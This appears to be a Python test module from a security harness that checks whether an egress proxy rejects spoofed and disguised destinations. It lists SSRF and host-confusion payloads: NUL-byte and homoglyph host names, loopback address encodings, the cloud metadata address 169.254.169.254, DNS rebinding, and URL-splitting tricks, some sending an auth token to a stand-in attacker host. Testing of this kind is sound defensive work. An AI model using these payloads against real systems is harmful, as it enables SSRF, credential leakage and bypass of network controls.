"""Tries names and addresses that look like others, or are others."""
from attack import *

NAMES = {
    "name_nul": f"{EVIL}\0.acme.example",
    "name_nul_reversed": f"{API}\0.{EVIL}",
    "name_percent": "evil%2eexample",
    "name_percent_nul": f"{API}%00.{EVIL}",
    "name_brackets": f"[{EVIL}]",
    "name_zone": "[fe80::1%25eth0]",
    "name_long": "a" * 260 + ".acme.example",
    "name_upper_evil": "EVIL.Example",
    "name_dot_evil": f"{EVIL}.",
    "name_two_dots": f"{API}..{EVIL}",
    "name_prefix": f"x{API}",
    "name_suffix": f"{API}.{EVIL}",
    "name_apex": "wild.example",
    "name_beside": "evilwild.example",
    "name_below": "wild.example.evil.example",
    "name_address_below": f"{EVIL_ADDRESS}.wild.example",
    "name_cyrillic": "\u0430pi.acme.example",
    "name_wide": "\uff45vil.example",
    "name_soft_hyphen": "a\u00adpi.acme.example",
    "name_a_label": "xn--pi-7kc.acme.example",
}


def named(host):
    def attempt(mark):
        fit = host.isascii() and host.replace("-", "").replace(".", "").isalnum() and ".." not in host
        sni = host if fit and len(host) < 250 else EVIL
        if not proxy():
            sock = straight(EVIL, 443)
        else:
            sock = tunnel(host.encode("utf8") + b":443")
        with secure(sock, sni) as inner:
            return talk(inner, request(mark, "/hello", host=EVIL, auth=TOKEN))

    return attempt


def same(host):
    """Another way to write the approved name; what arrives must be one and the same."""
    def attempt(mark):
        with secure(reach(host, 443), API) as sock:
            return talk(sock, request(mark, "/hello", host=host, auth=TOKEN))

    return attempt


for name, host in NAMES.items():
    ATTACKS[name] = named(host)
ATTACKS["same_upper"] = same("API.Acme.EXAMPLE")
ATTACKS["same_dot"] = same("api.acme.example.")

ADMIN = 8081
ADDRESSES = """127.0.0.1 127.1 0x7f.1 2130706433 0177.0.0.1 0.0.0.0 [::1] [::] [::ffff:127.0.0.1]
[::127.0.0.1] [64:ff9b::7f00:1] [2002:7f00:1::] 169.254.169.254 [::ffff:169.254.169.254]
localhost localhost. ip6-localhost""".split()
#: Approved names that lead to the machine itself, to its metadata service and to its network.
INNER = ["inner", "mapped", "meta", "own", "lan"]


def inside(host, port=ADMIN):
    def attempt(mark):
        if not proxy():
            with straight(host.strip("[]"), port) as sock:
                return talk(sock, request(mark, "/admin", host=host, auth=""))
        seen = absolute(mark, f"http://{host}:{port}/admin", f"{host}:{port}", auth="")
        try:
            with tunnel(f"{host}:{port}") as sock:
                return seen + talk(sock, request(mark, "/admin", host=f"{host}:{port}", auth=""))
        except OSError as error:
            return seen + str(error).encode()

    return attempt


for index, host in enumerate(ADDRESSES):
    ATTACKS[f"address_{index}"] = inside(host)
for name in INNER:
    ATTACKS[f"inner_{name}"] = inside(f"{name}.acme.example")


@attack
def rebinding(mark):
    """Asks for a name whose address changes with each look at it, until it is the machine's own."""
    host = "rebind.acme.example"
    seen = b""
    for _ in range(6):
        try:
            seen += inside(host)(mark)
        except OSError as error:
            seen += str(error).encode()
    return seen


SPLITS = {
    "split_userinfo": (f"http://{PLAIN}@{EVIL}/hello", EVIL),
    "split_userinfo_port": (f"http://{PLAIN}:80@{EVIL}/hello", PLAIN),
    "split_backslash": (f"http://{EVIL}\\@{PLAIN}/hello", PLAIN),
    "split_backslash_reversed": (f"http://{PLAIN}\\@{EVIL}/hello", PLAIN),
    "split_hash": (f"http://{EVIL}#@{PLAIN}/hello", PLAIN),
    "split_hash_reversed": (f"http://{PLAIN}#@{EVIL}/hello", PLAIN),
    "split_question": (f"http://{EVIL}?@{PLAIN}/hello", PLAIN),
    "split_tab": (f"http://{EVIL}\t{PLAIN}/hello", PLAIN),
    "split_slashes": (f"http:///{EVIL}/hello", PLAIN),
    "split_no_slashes": (f"http:{EVIL}/hello", PLAIN),
    "split_nul": (f"http://{EVIL}\0{PLAIN}/hello", PLAIN),
    "split_percent": (f"http://%65vil.example/hello", PLAIN),
}
for name, (url, host) in SPLITS.items():
    ATTACKS[name] = lambda mark, url=url, host=host: absolute(mark, url, host)
